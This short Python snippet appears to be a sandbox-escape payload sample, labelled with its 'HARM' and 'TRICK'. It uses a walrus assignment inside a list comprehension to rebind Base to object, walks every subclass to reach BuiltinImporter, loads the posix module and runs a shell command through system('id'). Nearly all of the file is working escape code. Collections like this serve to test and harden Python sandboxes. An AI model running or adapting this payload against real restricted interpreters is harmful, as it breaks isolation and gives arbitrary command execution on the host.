# HARM: shell via BuiltinImporter | TRICK: walrus inside list comprehension leaks binding of Base to module scope
class Base: pass
class A(Base): pass
_ = [(Base := c) for c in (object,)]
def walk(cls=Base):
    for sub in cls.__subclasses__():
        yield sub
        yield from walk(sub)
for k in walk():
    if k.__name__ == 'BuiltinImporter':
        k.load_module('posix').system('id')
